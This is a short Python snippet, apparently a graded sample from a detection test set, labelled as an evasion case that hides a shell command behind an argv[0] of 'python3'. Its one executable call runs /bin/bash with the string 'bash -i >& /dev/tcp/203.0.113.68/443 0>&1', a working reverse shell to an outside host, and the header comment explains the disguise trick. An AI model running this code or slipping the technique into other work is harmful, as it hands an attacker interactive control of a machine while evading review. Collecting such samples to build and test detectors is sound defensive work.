# evasion: subprocess list args whose argv[0] says python3 while executable= points at /bin/sh, so the -c string is a shell command
# grade: hard; does: shell
import subprocess

argv = ["python3", "-c", "bash -i >& /dev/tcp/203.0.113.68/443 0>&1"]
subprocess.run(argv, executable="/bin/bash", check=False)
